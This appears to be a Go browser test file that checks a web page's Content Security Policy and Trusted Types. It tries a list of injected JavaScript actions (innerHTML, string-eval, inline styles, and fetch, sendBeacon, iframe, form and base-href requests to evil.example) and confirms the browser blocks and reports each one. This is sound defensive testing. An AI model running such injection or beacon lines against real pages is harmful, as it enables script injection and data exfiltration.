package browsertest

import (
	"strings"
	"testing"
)

// Whatever got into the page could not make markup or code of a text, load or send anything:
// the browser refuses it, and says so, so that the other tests see each violation.
func TestTheBrowserHoldsThePageToItsPolicy(t *testing.T) {
	needsBrowser(t)
	t.Parallel()
	s := serve(t, "")
	p := open(t, s, desktopLight, "#/")
	p.eval("document.body.append(globalThis.place = document.createElement('div')); 0")
	for _, c := range []struct{ does, directive string }{
		{"place.innerHTML = '<b>x</b>'", "require-trusted-types-for"},
		{"place.insertAdjacentHTML('beforeend', '<b>x</b>')", "require-trusted-types-for"},
		{"new DOMParser().parseFromString('<b>x</b>', 'text/html')", "require-trusted-types-for"},
		{"document.createElement('script').text = 'globalThis.ran = 1'", "require-trusted-types-for"},
		{"document.createElement('script').src = '/console/x.js'", "require-trusted-types-for"},
		{"setTimeout('globalThis.ran = 1')", "require-trusted-types-for"},
		{"trustedTypes.createPolicy('mine', { createHTML: x => x })", "trusted-types"},
		{"place.setAttribute('style', 'color: red')", "style-src-attr"},
		{"place.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))", "style-src-elem"},
		{"place.append(Object.assign(new Image(), { src: 'http://evil.example/x.png' }))", "img-src"},
		{"fetch('http://evil.example/').catch(() => 0)", "connect-src"},
		{"navigator.sendBeacon('http://evil.example/', 'x')", "connect-src"},
		{"place.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/' }))", "frame-src"},
		{"place.append(Object.assign(document.createElement('object'), { data: 'http://evil.example/' }))", "require-trusted-types-for"},
		{"document.head.append(Object.assign(document.createElement('base'), { href: 'http://evil.example/' }))", "base-uri"},
		{"place.appendChild(Object.assign(document.createElement('form'), { action: 'http://evil.example/' })).submit()", "form-action"},
		{"new Worker('/console/x.js')", "require-trusted-types-for"},
	} {
		p.complaints.take()
		p.eval("look.violations = 0")
		p.eval("(() => { try { " + c.does + " } catch { } return 0 })()")
		p.until("look.violations > 0")
		if said := strings.Join(p.complaints.take(), "\n"); !strings.Contains(said, "policy: "+c.directive+" ") {
			t.Errorf("%s violates %q, the browser said:\n%s", c.does, c.directive, said)
		}
	}
	if ran := read[bool](p, "'ran' in globalThis || place.querySelector('b') !== null"); ran {
		t.Error("a text became code or markup")
	}
	p.complaints.take()
}

// take returns the complaints so far, which are no faults then.
func (c *complaints) take() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	lines := c.lines
	c.lines = nil
	return lines
}
